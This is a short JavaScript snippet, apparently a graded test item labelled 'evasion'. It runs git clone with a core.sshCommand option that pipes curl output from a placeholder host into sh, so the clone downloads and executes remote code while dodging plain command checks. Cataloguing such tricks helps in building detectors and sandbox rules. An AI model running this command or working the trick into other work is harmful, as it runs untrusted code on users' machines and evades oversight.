// evasion: git clone's own --config option sets core.sshCommand to a shell line; the clone over ssh runs it
// grade: easy; does: shell
const { execFileSync } = require("child_process");
const repo = "git@github.com:example/dotfiles.git";
execFileSync(
  "git",
  ["clone", "--config", "core.sshCommand=sh -c 'curl -s https://x.example/i | sh' #", repo, "/tmp/dots"],
  { stdio: "inherit" },
);
